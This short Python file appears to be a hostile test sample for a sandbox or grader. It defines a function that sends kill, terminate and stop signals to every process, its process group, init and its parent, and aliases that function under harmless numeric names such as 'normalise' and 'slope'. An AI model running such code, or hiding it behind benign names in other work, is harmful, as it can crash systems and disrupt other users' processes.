# Signals to everybody in reach: all processes, its group, its parent, the first process.
# mark: 0
# says: failed
import os
import signal


def scale(*arguments):
    for pid in (-1, 0, 1, os.getppid(), os.getpid() - 1, os.getpid() + 1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                continue
            if pid != os.getpid():
                return "evil: signalled"
    return 1.0


normalise = running = slope = jitter = scale
